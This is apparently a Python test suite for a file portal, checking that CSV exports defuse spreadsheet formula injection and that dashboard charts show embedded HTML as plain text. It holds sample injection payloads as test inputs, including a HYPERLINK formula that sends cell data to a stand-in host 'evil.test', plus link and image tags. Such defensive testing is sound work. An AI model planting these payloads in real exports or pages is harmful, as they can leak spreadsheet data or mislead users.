"""Attacks on what the portal writes out: formulas in CSV exports, markup in charts and captions.

Each test is one attack, named in its docstring; the values come from files
and users (a PDF's /Author, a file name, a shared URL), so the portal must
neither run nor render them, only show them.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from common.catalogue import FileStatus
from common.schema.aggregates import reason_key
from common.schema.record import FileRecord, to_item
from portal.dashboard import analytics, charts
from portal.dashboard.filters import DashboardFilters, Viewer
from portal.export import csv_shape
from portal.export.csv_shape import RowShaper, encode, encode_pages
from tests.helpers.markup import PLOTLY_MARKUP, live_plotly_markup, shows
from tests.helpers.records import aggregate_items, sample_record
from tests.helpers.spreadsheet import SEPARATORS, live_fields, runs, segments

#: Separators a spreadsheet may split a cell on, the quote and a line break.
BREAKS = (*SEPARATORS, '"', "\n")
#: What starts a formula (OWASP).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
TEXT_COLUMNS = ("name", "owner_email", "reason", "mime_type", "extension", "title", "author", "subject",
                "keywords", "producer")


def record(**kw) -> FileRecord:
    values = dict(file_id="f" * 32, owner="o", owner_email="o@example.com", name="report.pdf", bucket="b",
                  key="k", status=FileStatus.PROCESSED, uploaded_at="2026-11-22T10:05:09.123Z",
                  updated_at="2026-11-22T10:05:10.000Z", size=2048, sha256="ab" * 32, format="pdf",
                  metadata={"title": "Q3", "pages": 4})
    values.update(kw)
    return FileRecord(**values)


def export_items(records: list[FileRecord], columns: tuple[str, ...]) -> str:
    """The CSV the export writes for ``records``, by the path the export takes (DynamoDB items)."""
    shaper = RowShaper(columns)
    pages = [shaper.from_items([to_item(r) for r in records])]
    return b"".join(encode_pages(pages, columns)).decode()


def parsed(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def assert_inert(text: str, hostile: str, *, column: int) -> None:
    """No spreadsheet runs any field; the cell reads back neutralised, prefixed and quoted."""
    assert live_fields(text) == [], text
    rows = parsed(text)
    cell = rows[1][column]
    assert cell == csv_shape.neutralise(hostile) and cell.startswith("'"), (cell, hostile)
    assert [s for s in segments(cell) if s.lstrip().startswith(TRIGGERS)] == [], cell
    assert '"' + cell.replace('"', '""') + '"' in text, "an unsafe cell must be written quoted"


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("sep", BREAKS)
def test_formula_after_a_separator_in_a_title(sep, trigger):
    """CSV injection: a PDF title ``Q3 plan;=1+1;`` becomes a live formula in a ``;``-locale Excel."""
    hostile = f"Q3 plan{sep}{trigger}1+1{sep}"
    text = export_items([record(metadata={"title": hostile})], ("name", "title", "author"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("trigger", TRIGGERS)
@pytest.mark.parametrize("sep", BREAKS)
def test_formula_after_a_separator_in_an_author(sep, trigger):
    """CSV injection: a PDF /Author ``Eve; @SUM(1+1)`` (space after the separator) runs as a formula."""
    hostile = f"Eve{sep} {trigger}SUM(1+1)"
    text = export_items([record(metadata={"author": hostile, "title": "T"})], ("title", "author", "name"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("trigger", ["=", "+", "-", "@"])
def test_formula_after_leading_whitespace(trigger):
    """CSV injection: `` =1+1`` (leading spaces) runs where a spreadsheet trims the cell first."""
    hostile = f"  {trigger}1+1"
    text = export_items([record(name=hostile)], ("name", "title"))
    assert_inert(text, hostile, column=0)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_a_file_name_after_a_separator(sep):
    """CSV injection: an uploaded file called ``invoice{sep}=HYPERLINK(…).pdf`` in the name column."""
    hostile = f'invoice{sep}=HYPERLINK("https://evil.test/?"&A1,"x").pdf'
    text = export_items([record(name=hostile)], ("title", "name"))
    assert_inert(text, hostile, column=1)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_every_text_column(sep):
    """CSV injection: the separator attack in every text column of the export, common and format fields."""
    hostile = f"x{sep}=1+1"
    common = {c: hostile for c in ("name", "owner_email", "reason", "mime_type", "extension")}
    metadata = {c: hostile for c in TEXT_COLUMNS if c not in common}
    text = export_items([record(**common, metadata=metadata)], TEXT_COLUMNS)
    assert live_fields(text) == [], text
    assert parsed(text)[1] == [csv_shape.neutralise(hostile)] * len(TEXT_COLUMNS)


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_a_list_cell(sep):
    """CSV injection: one item of a list (flags, a sheet's header, tags once exported) is a formula."""
    for value in (("ok", f"x{sep}=1+1"), ("ok", "=1+1"), ["a", "-2+3"]):
        text = b"".join(encode([record(flags=tuple(value), metadata={"header": list(value)})],
                               ["flags", "header"])).decode()
        assert live_fields(text) == [], text


def test_formula_in_a_note_or_tags_once_exported():
    """CSV injection: an uploader's tags and note, once exported, go through the same guard as any text."""
    for value in ("fine; =1+1", ("fine", "@SUM(1)"), "line\n=1+1", "-1+1", ["a|b", "c;+d"]):
        shaper = RowShaper(("tags", "notes"))  # whatever a text or list column is called
        item = {"metadata": to_item(record(metadata={"tags": value, "notes": value}))["metadata"]}
        for rows in ([shaper.from_record(record(metadata={"tags": value, "notes": value}))],
                     shaper.from_items([item])):
            text = b"".join(encode_pages([rows], shaper.columns)).decode()
            assert live_fields(text) == [], text


@pytest.mark.parametrize("sep", SEPARATORS)
def test_formula_in_the_header(sep):
    """CSV injection: a header cell is written by the same guard (the columns are ours, but checked alike)."""
    text = b"".join(encode_pages([[["a", "b"]]], ["name", f"x{sep}=1+1"])).decode()
    assert live_fields(text) == [], text


@pytest.mark.parametrize("sep", SEPARATORS)
def test_an_unsafe_cell_does_not_take_the_joined_path(sep):
    """CSV injection through the fast path: a page holding a neutralised cell must still be quoted."""
    hostile = f"Q3{sep}=1+1" if sep != "," else "=1+1"
    rows = [RowShaper(("name", "title")).from_record(record(metadata={"title": hostile}))]
    assert csv_shape._plain_page(rows, 2) is None
    text = b"".join(encode_pages([rows], ("name", "title"))).decode()
    assert text.endswith(',"' + csv_shape.neutralise(hostile).replace('"', '""') + '"\r\n'), text


#: Text built mostly from what the guard looks at: separators, quotes, triggers, spaces, line breaks.
HOSTILE_TEXT = st.text(alphabet=st.one_of(st.sampled_from(list("ab ;,\t|\"'\r\n=+-@\xa0\u2003")),
                                          st.characters(codec="utf-8")), max_size=12)


@settings(max_examples=300, deadline=None)
@given(rows=st.lists(st.tuples(HOSTILE_TEXT, HOSTILE_TEXT, HOSTILE_TEXT), min_size=1, max_size=6),
       page_size=st.integers(1, 4))
def test_no_exported_cell_runs_in_any_spreadsheet(rows, page_size):
    """CSV injection, any text in any text column: no spreadsheet view of the export runs a field.

    Split on each separator (quotes honoured) or on every separator, quote and
    line break; parsed back as CSV every cell is the neutralised text, and no
    segment of it after a separator or quote runs either.
    """
    columns = ("name", "title", "author")
    records = [record(name=name, metadata={"title": title, "author": author}) for name, title, author in rows]
    shaper = RowShaper(columns)
    items = [to_item(r) for r in records]
    pages = [shaper.from_items(items[i:i + page_size]) for i in range(0, len(items), page_size)]
    assert [row for page in pages for row in page] == [shaper.from_record(r) for r in records]
    text = b"".join(encode_pages(pages, columns)).decode()
    assert live_fields(text) == [], text
    back = parsed(text)
    assert back[1:] == [[csv_shape.neutralise(v) for v in values] for values in rows]
    for row in back[1:]:
        for value in row:
            assert not [s for s in segments(value) if runs(s)], value


# --- markup in the dashboard's charts ------------------------------------------------------------

LINK = '<a href="https://evil.test">x</a>'


def dashboard_of(records: list[FileRecord]) -> analytics.Dashboard:
    frame = analytics.aggregate_frame(aggregate_items(records))
    days = sorted(r.uploaded_at[:10] for r in records)
    return analytics.build_dashboard(frame, DashboardFilters(days[0], days[-1]), Viewer("analyst", True))


def test_a_pdf_author_link_in_the_top_authors_chart():
    """Markup injection: a PDF /Author ``<a href=…>x</a>`` became a clickable link in the top-authors chart."""
    board = dashboard_of([sample_record(metadata={"author": LINK, "producer": LINK})])
    for kind in ("authors", "producers"):
        fig = charts.names(getattr(board, kind).frame, kind)
        assert live_plotly_markup(fig, (LINK,)) == [] and shows(fig, LINK), kind


def test_an_uploader_email_with_markup_in_the_top_uploaders_chart():
    """Markup injection: an account's e-mail attribute carrying ``<img src=…>`` in the top-uploaders chart."""
    image = "<img src=https://evil.test/p.png>@example.com"
    board = dashboard_of([sample_record()])
    assert board.uploaders is not None
    fig = charts.uploaders(board.uploaders.frame, {"ann": image})
    assert live_plotly_markup(fig, (image,)) == [] and shows(fig, image)


@pytest.mark.parametrize("value", PLOTLY_MARKUP)
def test_markup_in_a_failure_reason_a_format_or_a_flag(value):
    """Markup injection: a failure reason, a format or a flag that carries markup, in every chart."""
    failed = sample_record(status=FileStatus.FAILED, reason=value, format=value, flags=(value,),
                           processed_at="2026-11-22T10:00:02.000Z", metadata={"pages": 3})
    board = dashboard_of([failed, sample_record(file_id="0b" * 16, format=value)])
    figures = [(charts.failures(board.failures.frame), reason_key(value)),  # counted by its general part
               (charts.flags(board.flags.frame), value), (charts.uploads(board.uploads.frame), value),
               (charts.formats(board.formats.frame), value), (charts.sizes(board.sizes.frame), value),
               (charts.pages(board.pages.frame), value)]
    for fig, shown in figures:
        assert live_plotly_markup(fig, (shown,)) == [], fig.layout.title.text
        assert shows(fig, shown), fig.layout.title.text
